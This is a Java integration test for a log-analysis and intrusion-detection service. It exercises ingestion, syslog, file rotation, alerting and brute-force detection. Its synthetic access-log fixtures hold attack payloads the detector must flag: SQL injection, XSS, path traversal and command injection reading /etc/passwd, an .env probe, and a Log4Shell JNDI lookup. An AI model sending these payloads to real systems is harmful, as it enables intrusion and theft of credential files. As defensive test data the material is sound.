package dev.vedette.app;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import dev.vedette.alert.AlertDesk;
import dev.vedette.event.Alert;
import dev.vedette.event.FieldDictionary;
import dev.vedette.parse.LogReader;
import dev.vedette.store.DetectionQuery;
import dev.vedette.store.EventQuery;
import dev.vedette.store.Query;
import dev.vedette.store.SqliteStore;
import dev.vedette.store.TimeRange;
import java.io.IOException;
import java.io.InputStream;
import java.io.RandomAccessFile;
import java.net.DatagramPacket;
import java.net.DatagramSocket;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.net.http.WebSocket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardOpenOption;
import java.time.Instant;
import java.time.ZoneOffset;
import java.time.format.DateTimeFormatter;
import java.util.ArrayList;
import java.util.EnumMap;
import java.util.HashSet;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.SplittableRandom;
import java.util.concurrent.CompletionStage;
import java.util.concurrent.ConcurrentLinkedQueue;
import java.util.concurrent.ExecutionException;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.LinkedBlockingQueue;
import java.util.concurrent.TimeUnit;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.io.TempDir;

/// The whole flow in this process, through real sockets and files, on a real store.
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class FlowTest {
  private static final DateTimeFormatter CLF =
      DateTimeFormatter.ofPattern("dd/MMM/yyyy:HH:mm:ss +0000", Locale.ROOT)
          .withZone(ZoneOffset.UTC);
  private static final DateTimeFormatter BSD =
      DateTimeFormatter.ofPattern("MMM ppd HH:mm:ss", Locale.ROOT).withZone(ZoneOffset.UTC);

  @TempDir static Path folder;

  private final Caller calls = new Caller();
  private int syslogUdp;
  private int syslogTcp;
  private @Nullable Flow shared;

  @BeforeAll
  void start() throws IOException {
    Logging.configure();
    syslogUdp = freePort();
    syslogTcp = freePort();
    shared =
        flow(
            folder.resolve("shared"),
            calls,
            Map.of(
                Config.Key.SYSLOG_UDP,
                "127.0.0.1:" + syslogUdp,
                Config.Key.SYSLOG_TCP,
                "127.0.0.1:" + syslogTcp));
  }

  @AfterAll
  void stop() {
    calls.close();
    if (shared != null) {
      shared.close();
    }
  }

  private static Flow flow(Path data, Caller caller, Map<Config.Key, String> more)
      throws IOException {
    var flags = new EnumMap<Config.Key, String>(Config.Key.class);
    flags.putAll(more);
    flags.put(Config.Key.DATA, data.toString());
    flags.put(Config.Key.PORT, "0");
    var flow = Flow.start(Config.read(null, Map.of(), flags), false, false);
    var secrets = flow.firstSecrets();
    caller.reach(
        flow.port(),
        secrets.map(s -> s.adminPassword()).orElse(caller.password()),
        secrets.map(s -> s.ingestToken()).orElse(caller.token()));
    return flow;
  }

  private static int freePort() throws IOException {
    try (var socket = new ServerSocket(0, 1, InetAddress.getLoopbackAddress())) {
      return socket.getLocalPort();
    }
  }

  // ---- the simple log API
  // -------------------------------------------------------------------------------------------

  @Test
  void theSimpleLogApiFindsAnomaliesAndKeepsAnAllowList() throws IOException, InterruptedException {
    String message = "payment failed for card of 203.0.113.77";
    assertThat(log("application/json", message + " #1").body())
        .isEqualTo("{\"status\":\"Log submitted successfully\"}");
    // What `curl -d` sends unless it is told otherwise.
    assertThat(log("application/x-www-form-urlencoded", message + " #2").statusCode())
        .isEqualTo(200);

    var first = anomaly(true, message + " #1");
    assertThat(first.path("reason").asText()).isEqualTo("Log contains anomalous keyword.");
    assertThat(first.path("source_ip").asText()).isEqualTo("203.0.113.77");
    assertThat(first.path("status").asText()).isEqualTo("new");
    assertThat(anomaly(true, message + " #2").isMissingNode()).isFalse();

    var changed =
        calls.send("PATCH", "/alerts/" + first.path("id").asText(), "{\"status\":\"resolved\"}");
    assertThat(changed.body()).isEqualTo("{\"status\":\"Alert status updated successfully\"}");
    assertThat(anomaly(true, message + " #1").path("status").asText()).isEqualTo("resolved");
    assertThat(anomaly(true, message + " #2").path("status").asText()).isEqualTo("new");

    var added = calls.send("POST", "/whitelist", "{\"ip\":\"203.0.113.77\"}");
    assertThat(added.statusCode()).isEqualTo(201);
    assertThat(added.body()).isEqualTo("{\"status\":\"IP added to whitelist\"}");
    assertThat(calls.get("/whitelist").body())
        .isEqualTo("{\"whitelisted_ips\":[\"203.0.113.77\"]}");
    log("application/json", message + " #3");
    assertThat(anomaly(true, message + " #3").isMissingNode()).isTrue();
    assertThat(anomaly(false, message + " #3").path("is_anomaly").asBoolean(true)).isFalse();

    var removed = calls.send("DELETE", "/whitelist/203.0.113.77", "");
    assertThat(removed.statusCode()).isEqualTo(200);
    assertThat(removed.body()).isEqualTo("{\"status\":\"IP removed from whitelist\"}");
    log("application/json", message + " #4");
    assertThat(anomaly(true, message + " #4").isMissingNode()).isFalse();

    var told = new ArrayList<String>();
    Caller.json(calls.get("/api/activity?limit=1000").body())
        .path("activity")
        .forEach(entry -> told.add(entry.path("message").asText()));
    assertThat(told)
        .containsOnlyOnce(
            "admin added 203.0.113.77 to the allow-list",
            "admin removed 203.0.113.77 from the allow-list");
  }

  @Test
  void fiveFailedLoginsInPlainMessagesAreABruteForce() throws IOException, InterruptedException {
    for (int i = 1; i <= 4; i++) {
      log("application/json", "failed login for bob from 203.0.113.78 #" + i);
    }
    assertThat(anomaly(true, "failed login for bob from 203.0.113.78 #4").path("reason").asText())
        .isNotEmpty()
        .doesNotStartWith("Brute-force attempt detected");
    log("application/json", "failed login for bob from 203.0.113.78 #5");
    assertThat(anomaly(true, "failed login for bob from 203.0.113.78 #5").path("reason").asText())
        .isEqualTo("Brute-force attempt detected from 203.0.113.78 (5 attempts).");
  }

  private HttpResponse<String> log(String contentType, String message)
      throws IOException, InterruptedException {
    var answer =
        calls.http.send(
            calls
                .request("/logs", calls.token())
                .header("Content-Type", contentType)
                .POST(HttpRequest.BodyPublishers.ofString("{\"message\": \"" + message + "\"}"))
                .build(),
            HttpResponse.BodyHandlers.ofString());
    assertThat(answer.statusCode()).as(answer.body()).isEqualTo(200);
    return answer;
  }

  private JsonNode anomaly(boolean is, String message) throws IOException, InterruptedException {
    var answer = calls.get("/alerts?is_anomaly=" + is);
    assertThat(answer.statusCode()).as(answer.body()).isEqualTo(200);
    for (var log : Caller.json(answer.body())) {
      if (log.path("message").asText().equals(message)) {
        return log;
      }
    }
    return Caller.json("{}").path("none");
  }

  // ---- receipts
  // -----------------------------------------------------------------------------------------------------

  @Test
  void aKeyIsAnsweredWithItsReceiptAndOnlyForItsLines() throws IOException, InterruptedException {
    var first = calls.ingest("one line\nanother line\r\n\nthe last", "key-1");
    assertThat(first.statusCode()).as(first.body()).isEqualTo(200);
    var receipt = Caller.json(first.body());
    assertThat(receipt.path("source").asText()).isEqualTo("http:ingest");
    assertThat(receipt.path("count").asInt()).isEqualTo(3);
    assertThat(receipt.path("last").asLong() - receipt.path("first").asLong()).isEqualTo(2);
    assertThat(receipt.path("sha256").asText()).matches("[0-9a-f]{64}");

    var again = calls.ingest("one line\nanother line\r\n\nthe last", "key-1");
    assertThat(again.body()).isEqualTo(first.body());
    assertThat(again.headers().firstValue("Idempotency-Replayed")).contains("true");
    assertThat(calls.ingest("other lines", "key-1").statusCode()).isEqualTo(422);
  }

  // ---- sources
  // ------------------------------------------------------------------------------------------------------

  @Test
  void syslogIsTakenOverUdpAndTcp() throws IOException, InterruptedException {
    String udp = "<38>" + BSD.format(Instant.now()) + " web1 sshd[99]: message number 810001";
    byte[] datagram = udp.getBytes(StandardCharsets.UTF_8);
    try (var socket = new DatagramSocket()) {
      socket.send(
          new DatagramPacket(
              datagram, datagram.length, InetAddress.getLoopbackAddress(), syslogUdp));
    }
    try (var socket = new Socket(InetAddress.getLoopbackAddress(), syslogTcp)) {
      var lines = new StringBuilder();
      for (int i = 0; i < 3; i++) {
        lines
            .append("<38>")
            .append(BSD.format(Instant.now()))
            .append(" web1 sshd[99]: message number 81001")
            .append(i)
            .append('\n');
      }
      socket.getOutputStream().write(lines.toString().getBytes(StandardCharsets.UTF_8));
      socket.getOutputStream().flush();
      Centre.await("syslog over UDP is stored", 30, () -> found("810001") == 1);
      Centre.await("syslog over TCP is stored", 30, () -> found("81001") == 3);
    }
  }

  /// Events whose line holds a text.
  private int found(String text) throws IOException, InterruptedException {
    return found(calls, text);
  }

  private static int found(Caller caller, String text) throws IOException, InterruptedException {
    int found = 0;
    var answer = caller.get("/api/events?limit=1000");
    assertThat(answer.statusCode()).as(answer.body()).isEqualTo(200);
    for (var event : Caller.json(answer.body()).path("events")) {
      found += event.path("original").asText().contains(text) ? 1 : 0;
    }
    return found;
  }

  @Test
  void aFileIsFollowedThroughRotationAndARestart() throws IOException, InterruptedException {
    var log = folder.resolve("app.log");
    Files.writeString(log, numbered("before", 0, 3));
    var data = folder.resolve("followed");
    var files = Map.of(Config.Key.FILES, log.toString());
    try (var caller = new Caller()) {
      try (var flow = flow(data, caller, files)) {
        assertThat(flow.port()).isPositive();
        Centre.await("the file is read", 30, () -> found(caller, "before") == 3);
        append(log, numbered("grown", 0, 2));
        Centre.await("what was appended is read", 30, () -> found(caller, "grown") == 2);
        append(log, numbered("late", 0, 1));
        Files.move(log, folder.resolve("app.log.1"));
        Files.writeString(log, numbered("rotated", 0, 2));
        Centre.await("the new file is read", 30, () -> found(caller, "rotated") == 2);
        Centre.await("the end of the old file is read", 30, () -> found(caller, "late") == 1);
      }
      append(log, numbered("meanwhile", 0, 4));
      try (var flow = flow(data, caller, files)) {
        assertThat(flow.port()).isPositive();
        Centre.await("it goes on at its position", 30, () -> found(caller, "meanwhile") == 4);
        append(log, numbered("after", 0, 1));
        Centre.await("it goes on following", 30, () -> found(caller, "after") == 1);
        for (var each : Map.of("before", 3, "grown", 2, "late", 1, "rotated", 2).entrySet()) {
          assertThat(found(caller, each.getKey())).as(each.getKey()).isEqualTo(each.getValue());
        }
      }
    }
  }

  private static String numbered(String word, int from, int count) {
    var lines = new StringBuilder();
    for (int i = from; i < from + count; i++) {
      lines.append("the line ").append(word).append(" number ").append(i).append('\n');
    }
    return lines.toString();
  }

  private static void append(Path file, String text) throws IOException {
    Files.writeString(file, text, StandardOpenOption.APPEND);
  }

  // ---- live
  // ---------------------------------------------------------------------------------------------------------

  @Test
  void anAlertReachesThoseWhoWatch() throws IOException, InterruptedException {
    var received = new LinkedBlockingQueue<JsonNode>();
    var socket =
        calls
            .http
            .newWebSocketBuilder()
            .header("Authorization", "Bearer " + calls.admin())
            .buildAsync(
                java.net.URI.create("ws://127.0.0.1:" + calls.port() + "/ws"),
                new Watcher(received))
            .join();
    assertThat(next(received, "hello").path("run").asText()).isNotEmpty();
    var answer =
        calls.ingest(
            access("198.51.100.201", "/item?id=1%27%20UNION%20SELECT%20name,pass%20FROM%20users--"),
            "union");
    assertThat(answer.statusCode()).as(answer.body()).isEqualTo(200);
    var alerts = next(received, "alerts");
    assertThat(alerts.toString()).contains("198.51.100.201").contains("SQL injection");
    socket.abort();
  }

  private static JsonNode next(LinkedBlockingQueue<JsonNode> received, String type)
      throws InterruptedException {
    while (true) {
      var message = received.poll(30, TimeUnit.SECONDS);
      assertThat(message).as("a message of type " + type).isNotNull();
      if (message != null && message.path("type").asText().equals(type)) {
        return message;
      }
    }
  }

  private record Watcher(LinkedBlockingQueue<JsonNode> received, StringBuilder text)
      implements WebSocket.Listener {
    Watcher(LinkedBlockingQueue<JsonNode> received) {
      this(received, new StringBuilder());
    }

    @Override
    public @Nullable CompletionStage<?> onText(WebSocket socket, CharSequence part, boolean last) {
      text.append(part);
      if (last) {
        received.add(Caller.json(text.toString()));
        text.setLength(0);
      }
      socket.request(1);
      return null;
    }
  }

  // ---- stopping
  // -----------------------------------------------------------------------------------------------------

  @Test
  void aStopStoresWhatWasAcknowledgedAndRefusesTheRest()
      throws IOException, InterruptedException, ExecutionException {
    var data = folder.resolve("drained");
    var acknowledged = new ConcurrentLinkedQueue<String>();
    try (var caller = new Caller();
        var threads = Executors.newVirtualThreadPerTaskExecutor()) {
      var senders = new ArrayList<Future<Void>>();
      try (var flow = flow(data, caller, Map.of())) {
        assertThat(flow.port()).isPositive();
        for (int i = 0; i < 4; i++) {
          int sender = i;
          senders.add(threads.submit(() -> sendUntilRefused(caller, sender, acknowledged)));
        }
        Centre.await("some are acknowledged", 60, () -> acknowledged.size() > 20);
      }
      for (var sender : senders) {
        sender.get();
      }
    }
    var stored = new ArrayList<String>();
    var dictionary = new FieldDictionary();
    try (var store = SqliteStore.open(data, () -> new LogReader(dictionary), dictionary)) {
      assertThat(store.verify(_ -> {}).isSound()).isTrue();
      var all = new EventQuery(TimeRange.ALL, Query.EVERYTHING, "", 10_000, null, null, 60_000);
      for (var hit : store.search(all).hits()) {
        stored.add(hit.original());
      }
    }
    assertThat(stored).doesNotHaveDuplicates().containsAll(acknowledged);
  }

  @Test
  void aDamagedDatabaseDoesNotKeepEventsOut() throws IOException, InterruptedException {
    var data = folder.resolve("damaged");
    try (var caller = new Caller()) {
      try (var flow = flow(data, caller, Map.of())) {
        assertThat(flow.port()).isPositive();
        assertThat(caller.ingest("before", "1").statusCode()).isEqualTo(200);
      }
      try (var file = new RandomAccessFile(data.resolve("vedette.db").toFile(), "rw")) {
        file.write('s');
      }
      try (var flow = flow(data, caller, Map.of())) {
        assertThat(flow.firstSecrets()).as("those of before").isEmpty();
        assertThat(caller.ingest("before", "1").statusCode()).as("once more").isEqualTo(200);
        assertThat(caller.ingest("after", "2").statusCode()).isEqualTo(200);
      }
    }
    var dictionary = new FieldDictionary();
    try (var store = SqliteStore.open(data, () -> new LogReader(dictionary), dictionary)) {
      var verification = store.verify(_ -> {});
      assertThat(verification.stored()).isEqualTo(2);
      assertThat(verification.faults()).singleElement().asString().startsWith("Salvaged at ");
    }
  }

  /// Sends until the centre says that it stops, or does not answer any more.
  private static Void sendUntilRefused(
      Caller caller, int sender, ConcurrentLinkedQueue<String> acknowledged)
      throws InterruptedException {
    for (int i = 0; i < 2_000; i++) {
      String one = "sender " + sender + " line " + i;
      try {
        var answer = caller.ingest(one, sender + "-" + i);
        if (answer.statusCode() == 503) {
          return null;
        }
        assertThat(answer.statusCode()).as(answer.body()).isEqualTo(200);
        acknowledged.add(one);
      } catch (IOException _) {
        return null;
      }
    }
    throw new AssertionError("it never stopped");
  }

  // ---- the same verdicts everywhere
  // ---------------------------------------------------------------------------------

  @Test
  void analyzeAndServeFindTheSame() throws IOException, InterruptedException {
    long seed = 7;
    var lines = mixed(new SplittableRandom(seed), 1_500);
    var analysed = analyse(lines);
    var served = new ArrayList<String>();
    var data = folder.resolve("compared");
    try (var caller = new Caller()) {
      try (var flow = flow(data, caller, Map.of())) {
        assertThat(flow.port()).isPositive();
        for (int from = 0; from < lines.size(); from += 250) {
          var batch = lines.subList(from, Math.min(lines.size(), from + 250));
          var answer = caller.ingest(String.join("\n", batch), "batch-" + from);
          assertThat(answer.statusCode()).as(answer.body()).isEqualTo(200);
        }
      }
    }
    var dictionary = new FieldDictionary();
    try (var store = SqliteStore.open(data, () -> new LogReader(dictionary), dictionary)) {
      for (var stored : store.detections(new DetectionQuery(TimeRange.ALL, 0, null, "", 10_000))) {
        served.add(stored.detection().title() + " | " + stored.detection().original());
      }
    }
    assertThat(analysed).as("seed " + seed).hasSizeGreaterThan(50);
    assertThat(served).as("seed " + seed).containsExactlyInAnyOrderElementsOf(analysed);
  }

  /// Workers count what single events show; the alerts must be those that folding one detection
  /// after the other makes.
  @Test
  void countingMakesTheAlertsThatFoldingDoes() throws IOException, InterruptedException {
    long seed = System.nanoTime();
    var file = folder.resolve("counted.log");
    var random = new SplittableRandom(seed);
    var lines = mixed(random, 3_000);
    for (int i = 0; i < 400; i++) {
      String user = random.nextInt(3) == 0 ? "root" : "user" + random.nextInt(4);
      lines.add(
          "{\"@timestamp\":\"2026-11-21T10:00:%02dZ\",\"message\":\"Login failed for user %s from 198.51.100.%d\",\"host.name\":\"web%d\"}"
              .formatted(random.nextInt(4), user, random.nextInt(5), random.nextInt(2)));
    }
    Files.writeString(file, String.join("\n", lines) + "\n");
    var engine = AnalyzeCommand.engine(List.of(), SimpleLogRules.DEFAULT);
    long nowMs = System.currentTimeMillis();
    var single = new HashSet<String>();
    engine.rules().forEach(rule -> single.add(rule.id()));
    var desk = new AlertDesk(AlertDesk.Memory.NONE, Integer.MAX_VALUE);
    Analysis.Summary summary;
    try (var chunks = new LineChunks(List.of(file), InputStream.nullInputStream())) {
      summary =
          new Analysis(
                  engine,
                  chunks,
                  2,
                  nowMs,
                  located -> {
                    if (single.contains(located.detection().ruleId())) {
                      desk.fold(located.detection(), engine::advice, nowMs);
                    }
                  })
              .run();
    }
    var counted =
        summary.alerts().stream()
            .filter(alert -> single.contains(alert.ruleId()))
            .map(FlowTest::withoutId)
            .toList();
    var folded = desk.all().stream().map(FlowTest::withoutId).toList();
    assertThat(folded).as("seed %d", seed).hasSizeGreaterThan(20);
    assertThat(counted).as("seed %d", seed).containsExactlyInAnyOrderElementsOf(folded);
  }

  private static Alert withoutId(Alert a) {
    return new Alert(
        0,
        a.ruleId(),
        a.title(),
        a.severity(),
        a.threatClass(),
        a.techniques(),
        a.entity(),
        a.sourceIp(),
        a.userName(),
        a.hostName(),
        a.status(),
        a.firstMs(),
        a.lastMs(),
        a.events(),
        a.detections(),
        a.reason(),
        a.advice(),
        a.changedMs(),
        a.changedBy(),
        a.statusMs(),
        a.note(),
        a.counted());
  }

  /// Where nobody looks at single detections they are made without evidence; what is counted and
  /// told must be the same.
  @Test
  void lookingAtSingleDetectionsChangesNothingElse() throws IOException, InterruptedException {
    long seed = System.nanoTime();
    var file = folder.resolve("looked-at.log");
    Files.writeString(file, String.join("\n", mixed(new SplittableRandom(seed), 2_000)) + "\n");
    var engine = AnalyzeCommand.engine(List.of(), SimpleLogRules.DEFAULT);
    long nowMs = System.currentTimeMillis();
    var summaries = new ArrayList<Analysis.Summary>();
    for (boolean looks : new boolean[] {true, false}) {
      try (var chunks = new LineChunks(List.of(file), InputStream.nullInputStream())) {
        summaries.add(new Analysis(engine, chunks, 2, nowMs, looks ? _ -> {} : null).run());
      }
    }
    var looked = summaries.getFirst();
    var counted = summaries.getLast();
    assertThat(looked.alerts()).as("seed %d", seed).hasSizeGreaterThan(20);
    assertThat(counted.alerts())
        .as("seed %d", seed)
        .containsExactlyInAnyOrderElementsOf(looked.alerts());
    assertThat(counted.detections()).isEqualTo(looked.detections());
    assertThat(counted.suspicious()).isEqualTo(looked.suspicious());
    assertThat(counted.byClass()).isEqualTo(looked.byClass());
  }

  private List<String> analyse(List<String> lines) throws IOException, InterruptedException {
    var file = folder.resolve("mixed.log");
    Files.writeString(file, String.join("\n", lines) + "\n");
    var found = new ArrayList<String>();
    var engine = AnalyzeCommand.engine(List.of(), SimpleLogRules.DEFAULT);
    try (var chunks = new LineChunks(List.of(file), InputStream.nullInputStream())) {
      new Analysis(
              engine,
              chunks,
              2,
              System.currentTimeMillis(),
              located ->
                  found.add(located.detection().title() + " | " + located.detection().original()))
          .run();
    }
    return found;
  }

  /// Ordinary requests and logins with attacks among them, in the order of their times.
  private static List<String> mixed(SplittableRandom random, int count) {
    var lines = new ArrayList<String>();
    var attacks =
        List.of(
            "/item?id=1%27%20UNION%20SELECT%20name,pass%20FROM%20users--",
            "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
            "/../../../../etc/passwd",
            "/.env",
            "/ping?host=;cat%20/etc/passwd",
            "/?x=${jndi:ldap://198.51.100.1/a}",
            "/wp-login.php");
    var start = Instant.now().minusSeconds(count);
    for (int i = 0; i < count; i++) {
      var at = start.plusSeconds(i);
      String ip = "198.18.0." + random.nextInt(20);
      int kind = random.nextInt(20);
      if (kind == 0) {
        lines.add(access(ip, attacks.get(random.nextInt(attacks.size())), at));
      } else if (kind < 6) {
        lines.add(
            BSD.format(at)
                + " web1 sshd[4711]: "
                + (kind == 1 ? "Accepted" : "Failed")
                + " password for root from "
                + ip
                + " port "
                + (40_000 + i)
                + " ssh2");
      } else {
        lines.add(access(ip, "/item/" + i, at));
      }
    }
    return lines;
  }

  private static String access(String ip, String target) {
    return access(ip, target, Instant.now());
  }

  private static String access(String ip, String target, Instant at) {
    return ip
        + " - - ["
        + CLF.format(at)
        + "] \"GET "
        + target
        + " HTTP/1.1\" 200 512 \"-\" \"Mozilla/5.0\"";
  }
}
